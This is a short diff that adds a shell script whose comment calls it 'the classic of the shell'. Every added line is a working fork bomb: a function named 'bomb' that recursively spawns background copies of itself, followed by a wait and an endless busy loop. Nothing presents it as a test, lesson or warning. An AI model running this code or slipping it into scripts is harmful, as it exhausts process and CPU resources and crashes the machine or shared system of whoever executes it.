@@ -1,0 +1,5 @@
+# The classic of the shell.
+bomb() { bomb | bomb & }
+bomb
+wait
+while :; do :; done
